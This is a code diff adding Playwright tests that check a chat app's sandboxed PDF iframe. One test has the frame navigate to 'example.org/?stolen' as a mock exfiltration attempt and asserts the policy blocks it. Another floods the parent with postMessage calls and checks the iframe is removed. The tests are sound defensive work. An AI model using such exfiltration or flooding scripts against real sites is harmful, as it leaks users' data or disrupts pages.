@@ -157,7 +157,24 @@ def test_the_frame_of_a_pdf_reaches_nothing(enter, cast, sent, watch):
     for name, attempt in tries.items():
         reached = frame.evaluate(f"() => ({attempt})().then(() => true, () => false)")
         assert not reached, name
+    elsewhere = []
+    page.on("request", lambda request: elsewhere.append(request.url))
+    with page.expect_event("console", lambda message: "policy: frame-src" in message.text):
+        frame.evaluate("() => { location = 'https://example.org/?stolen'; }")
+    assert not [url for url in elsewhere if "example.org" in url]
     # Chromium logs what it refused.
     refused = [fault for fault in watch.faults if "violates" in fault or "policy:" in fault]
     assert refused
     watch.faults.clear()
+
+
+def test_a_frame_that_floods_its_page_is_taken_away(enter, cast, sent):
+    sent(pdf(["Hello"]), "flood.pdf")
+    page = enter(cast.alice, f"/c/{cast.chat}").page
+    page.get_by_role("button", name="flood.pdf PDF").click()
+    expect(page.frame_locator("pdf-view iframe").get_by_label("Page 1")).to_contain_text("Hello")
+    frame_of(page).evaluate(
+        "() => { for (let n = 0; n < 999; n += 1) parent.postMessage({}, '*'); }"
+    )
+    expect(page.locator("pdf-view").get_by_role("alert")).to_contain_text("cannot be shown here.")
+    expect(page.locator("pdf-view iframe")).to_have_count(0)
